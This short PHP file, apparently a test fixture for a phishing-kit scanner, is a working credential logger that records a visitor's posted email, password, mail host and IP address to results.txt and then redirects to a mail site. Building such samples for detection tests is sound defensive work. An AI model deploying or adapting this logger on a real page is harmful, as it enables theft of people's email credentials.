<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// webmail kit: the victim's address and password, logged with an "smtp_host" decoy field
$ip = $_SERVER['REMOTE_ADDR'];
$email = $_POST['email'];
$pass = $_POST['password'];
$host = $_POST['smtp_host'];
$line = "Email: $email | Pass: $pass | Host: $host | IP: $ip\n";
file_put_contents('results.txt', $line, FILE_APPEND);
header('Location: https://mail.example.com/');
